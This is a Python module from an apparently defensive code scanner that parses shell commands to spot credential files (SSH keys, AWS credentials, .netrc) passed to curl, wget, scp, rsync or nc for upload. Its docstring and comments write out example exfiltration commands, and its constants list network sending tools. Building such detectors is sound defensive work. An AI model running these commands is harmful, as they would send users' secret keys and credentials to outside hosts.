"""Credential files a process call hands to a program that sends them (CPL-THR-007, recall14).

Python that reads ``~/.ssh/id_rsa`` and posts it is the data flow's
(``_sink_egress``); a stealer can instead give the path to a program that
reads and sends the file itself, where no Python read exists to follow:
``curl -F f=@~/.ssh/id_rsa URL``, ``curl -T ~/.aws/credentials URL``,
``curl -d @~/.git-credentials URL``, ``wget --post-file=KEY URL``,
``scp -r ~/.ssh user@host:``, ``rsync ~/.ssh/ host:dir``, ``nc host port <
KEY``, ``cat KEY | curl --data-binary @- URL``. The command is read word by
word (a list's elements, a shell string split like a shell), its pieces
that are not literals spelled as the path they build (``expanduser``,
``os.path.join`` of a bound home, an f-string's fields), and a credential
counts only in the place where the program *sends* a file: an upload flag's
value, a copy's source when its destination is a remote, a redirect into a
network program, the start of a pipeline into one. The same path as an
identity (``scp -i ~/.ssh/id_rsa build.tar host:``, ``curl --netrc-file
~/.netrc URL``) or as a download's destination (``scp host:keys ~/.ssh/``)
sends nothing.
"""

from __future__ import annotations

import ast
import re
from pathlib import PurePosixPath

from caplet._scan._commands import string_parts
from caplet._scan._flow import Flow
from caplet._scan._shell_split import ShellSplitter
from caplet._scan._source_labels import file_labels
from caplet._scan._sources import Source

__all__ = ["uploaded_credentials"]

#: Programs that send what a pipeline feeds them (``... | curl -T - URL``).
_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh"})
#: curl's options whose value is a file it sends (``@file`` for the data forms).
_CURL_FILE = frozenset({"-T", "--upload-file"})
_CURL_DATA = frozenset(
    {"-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json"}
)
_CURL_FORM = frozenset({"-F", "--form"})
#: wget's options whose value is a file it sends as the request's body.
_WGET_FILE = frozenset({"--post-file", "--body-file"})
#: Copy programs: their sources go to their last operand.
_COPIERS = frozenset({"scp", "rsync", "pscp", "sftp"})
#: The options of scp and rsync that take a value (an identity file among them).
_COPY_VALUED = frozenset(
    {"-i", "-F", "-o", "-P", "-p", "-c", "-J", "-l", "-S", "-D", "-e", "--rsh", "--port"}
)
#: Words a command may start with before its program.
_PREFIXES = frozenset({"sudo", "nohup", "exec", "command", "env", "nice", "setsid"})
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh"})
#: A remote operand of scp/rsync: ``host:path``, ``user@host:path``, ``rsync://``.
_REMOTE = re.compile(r"^(?:[\w.+-]+@)?[\w.-]+:(?!\\)|^(?:rsync|scp|sftp)://")
_SEPARATORS = frozenset({"&&", "||", ";", "|", "&"})
#: Options whose value authenticates the request rather than being sent as its data
#: (``-H "Authorization: Bearer $(cat token)"``): as ``--netrc-file``, an identity.
_AUTH = frozenset(
    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "--http-password"}
)
#: A command substitution: ``$(...)`` (not nested) or backticks.
_SUBSTITUTION = re.compile(r"\$\(([^()]*)\)|`([^`]*)`")
_HELD = re.compile(r"\0(\d+)\0")
#: A variable expanded: ``$k`` or ``${k}``.
_EXPANSION = re.compile(r"\$\{(\w+)\}|\$(\w+)")
#: At most this many words of a command are read.
_MAX_WORDS = 256


def uploaded_credentials(flow: Flow, command: ast.expr) -> list[str]:
    """The credentials (``SSH key``, ...) ``command`` hands to a program that sends them."""
    words = _words(flow, command)
    return sorted(_sent(flow.shell, words, 0)) if words else []


def _words(flow: Flow, command: ast.expr) -> list[str] | None:
    if isinstance(command, ast.Name):
        bound = flow.bindings.assigned.get(command.id, ())
        if len(bound) == 1 and isinstance(bound[0], ast.List | ast.Tuple):
            command = bound[0]
    if isinstance(command, ast.List | ast.Tuple):
        return [_text(flow, element) for element in command.elts[:_MAX_WORDS]]
    return _shell_words(flow.shell, _text(flow, command))


def _shell_words(shell: ShellSplitter, text: str) -> list[str]:
    """:func:`_script_words`, once a file for each text (attack25: one long constant run at
    many call sites was rewritten at each)."""
    return shell.read(text, _script_words)


def _script_words(shell: ShellSplitter, text: str) -> list[str]:
    """A shell script's words, split as a shell splits them; a line's end and a ``;``
    glued to a word end a command as a separate ``;`` does (a script kept in a
    multi-line literal, ``u=$(id -un); curl ...``: recall16)."""
    # a substitution is one word however it is spaced (k=$(cat ~/.netrc)): each is held
    # out as a placeholder with no blank or quote in it while the text is split
    held: list[str] = []

    def hold(match: re.Match[str]) -> str:
        held.append(match.group(0))
        return f"\0{len(held) - 1}\0"

    text = _SUBSTITUTION.sub(hold, text.replace("\0", "")).replace("\n", " ; ")
    words = shell.split(text)[:_MAX_WORDS]
    words = [_HELD.sub(lambda m: held[int(m.group(1))], w) for w in words]
    out: list[str] = []
    for word in words:
        if word.endswith(";") and word != ";":
            out += [word[:-1], ";"]
        else:
            out.append(word)
    return out


def _substituted(
    shell: ShellSplitter, word: str, variables: dict[str, set[str]], depth: int
) -> set[str]:
    """The credentials a word's command substitutions read (``$(cat KEY | base64)``,
    backticks), and those of the variables it expands that were set from one
    (``k=$(cat KEY)`` then ``"k=$k"``): a sending program's argument made of a file's
    text sends the file (blind15's b15-ls-pdm-build-hook, recall16)."""
    out: set[str] = set()
    if depth < 2:
        for match in _SUBSTITUTION.finditer(word):
            inner = _shell_words(shell, match.group(1) or match.group(2) or "")
            out |= _credentials([w for w in inner if not w.startswith("-")])
    for name in _EXPANSION.findall(word):
        out |= variables.get(name[0] or name[1], set())
    return out


def _text(flow: Flow, node: ast.expr) -> str:
    """A word's text, each piece that is not a literal spelled as the path it builds."""
    pieces: list[str] = []
    for part in string_parts(node)[:64]:
        if isinstance(part, str):
            pieces.append(part)
            continue
        value = flow.name_value(part)
        pieces.append(value if value is not None else flow.path_text(part) or "?")
    return "".join(pieces)


def _sent(shell: ShellSplitter, words: list[str], depth: int) -> set[str]:
    """The credentials the programs of a shell command line send."""
    out: set[str] = set()
    stages: list[list[str]] = [[]]
    pipes: list[bool] = []
    for word in words:
        if word in _SEPARATORS:
            pipes.append(word == "|")
            stages.append([])
        else:
            stages[-1].append(word)
    variables: dict[str, set[str]] = {}
    for index, stage in enumerate(stages):
        for word in stage:
            name, equals, value = word.partition("=")
            if equals and name.isidentifier():
                variables[name] = _substituted(shell, value, variables, depth)
        program, args = _program(stage)
        if program in _SHELLS and "-c" in args[:-1] and depth < 2:
            out |= _sent(shell, _shell_words(shell, args[args.index("-c") + 1]), depth + 1)
            continue
        out |= _credentials(_sent_files(program, args))
        if program in _SENDERS:
            for before, arg in zip(["", *args], args, strict=False):
                if before not in _AUTH and arg.split("=", 1)[0] not in _AUTH:
                    out |= _substituted(shell, arg, variables, depth)
        fed = index < len(pipes) and pipes[index]
        if fed and _program(stages[index + 1])[0] in _SENDERS:
            # cat KEY | curl --data-binary @- URL, tar czf - ~/.ssh | nc host port
            out |= _credentials([a for a in args if not a.startswith("-")])
    return out


def _program(stage: list[str]) -> tuple[str, list[str]]:
    """A stage's program (its file name, lower case) and its arguments."""
    index = 0
    while index < len(stage) and (
        PurePosixPath(stage[index]).name in _PREFIXES or "=" in stage[index]
    ):
        index += 1
    if index >= len(stage):
        return "", []
    name = PurePosixPath(stage[index].replace("\\", "/")).name.lower().removesuffix(".exe")
    return name, stage[index + 1 :]


def _sent_files(program: str, args: list[str]) -> list[str]:
    """The files ``program`` sends, given its arguments."""
    if program == "curl":
        return _curl_files(args)
    if program == "wget":
        return _option_values(args, _WGET_FILE)
    if program in _COPIERS:
        operands: list[str] = []
        skip = False
        for arg in args:
            if skip:
                skip = False
            elif arg in _COPY_VALUED:
                skip = True
            elif not arg.startswith("-"):
                operands.append(arg)
        if len(operands) >= 2 and _REMOTE.match(operands[-1]):
            return operands[:-1]
        return []
    if program in _SENDERS and "<" in args[:-1]:
        return [args[args.index("<") + 1]]  # nc host port < KEY
    return []


def _curl_files(args: list[str]) -> list[str]:
    files = _option_values(args, _CURL_FILE)
    for value in _option_values(args, _CURL_DATA):
        # -d @file, --data-urlencode name@file
        if "@" in value:
            files.append(value.split("@", 1)[1])
    for value in _option_values(args, _CURL_FORM):
        # -F name=@file, -F name=<file (the file's text as the field), ;type=... after it
        match = re.match(r"[^=]*=[@<]([^;]*)", value)
        if match:
            files.append(match.group(1))
    return files


def _option_values(args: list[str], options: frozenset[str]) -> list[str]:
    """The values ``options`` are given: ``-T file``, ``--post-file=file``, ``-d@file``."""
    values: list[str] = []
    for index, arg in enumerate(args):
        if arg in options and index + 1 < len(args):
            values.append(args[index + 1])
        elif arg.startswith("--") and arg.split("=", 1)[0] in options and "=" in arg:
            values.append(arg.split("=", 1)[1])
        elif len(arg) > 2 and not arg.startswith("--") and arg[:2] in options:
            values.append(arg[2:])
    return values


def _credentials(files: list[str]) -> set[str]:
    """The credentials among ``files``; a public key (``id_rsa.pub``, sent to a server's
    ``authorized_keys`` by ``ssh-copy-id`` and its hand-made spellings) is none."""
    return {
        what
        for path in files
        if not path.endswith(".pub")
        for source, what in file_labels(path)
        if source is Source.CREDENTIAL
    }
